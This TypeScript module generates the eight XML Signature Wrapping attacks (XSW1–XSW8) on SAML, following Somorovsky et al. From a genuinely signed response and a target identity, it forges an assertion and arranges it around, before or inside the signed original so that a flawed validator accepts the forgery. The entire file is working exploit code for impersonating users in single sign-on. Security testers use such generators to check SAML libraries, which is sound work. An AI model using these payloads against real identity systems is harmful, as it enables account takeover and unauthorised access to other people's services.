/** The eight ways of wrapping a signed assertion (Somorovsky et al., "On Breaking SAML"), for the given person. */
const parts = (signed: string) => {
  const assertion = /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(signed)?.[0] ?? '';
  const signature = /<Signature[\s\S]*<\/Signature>/.exec(assertion)?.[0] ?? '';
  return { assertion, signature, bare: assertion.replace(signature, '') };
};

const forge = (assertion: string, { from, to }: { from: string; to: string }) =>
  assertion.replaceAll(from, to).replace(/ ID="[^"]*"/, ' ID="_forged"');

const inside = (outer: string, inner: string) => outer.replace(/(<\/saml:Assertion>)$/, () => `${inner}</saml:Assertion>`);
const object = (content: string) => `<Object xmlns="http://www.w3.org/2000/09/xmldsig#">${content}</Object>`;
const withObject = (signature: string, content: string) => signature.replace('</Signature>', () => `${object(content)}</Signature>`);
const extensions = (content: string) => `<samlp:Extensions>${content}</samlp:Extensions>`;

export function wrapResponse(signed: string, victim: { from: string; to: string }): Record<string, string> {
  const { assertion, signature, bare } = parts(signed);
  const evil = forge(bare, victim);
  const evilSigned = forge(assertion, victim);
  const instead = (content: string) => signed.replace(assertion, () => content);
  const evilResponse = instead(evil).replace(/ ID="[^"]*"/, ' ID="_forged_response"');
  const original = signed.replace(/^[\s\S]*?(?=<samlp:Response)/, '');
  return {
    'XSW1: the signed response inside a forged one': evilResponse.replace('</samlp:Response>', () => `${original}</samlp:Response>`),
    'XSW2: the signed response before the forged assertion': evilResponse.replace(evil, () => original + evil),
    'XSW3: the forged assertion before the signed one': instead(evil + assertion),
    'XSW4: the signed assertion inside the forged one': instead(inside(evil, assertion)),
    'XSW5: the signature in the forged one, the signed one after it': instead(evilSigned + bare),
    'XSW6: the signed one inside the signature of the forged one': instead(
      evilSigned.replace(/<Signature[\s\S]*<\/Signature>/, () => withObject(signature, bare)),
    ),
    'XSW7: the forged one in extensions before the signed one': instead(extensions(evil) + assertion),
    'XSW8: the signed one in an object of the signature': instead(
      evil.replace(/(<\/saml:Issuer>)/, () => `</saml:Issuer>${withObject(signature, bare)}`),
    ),
  };
}
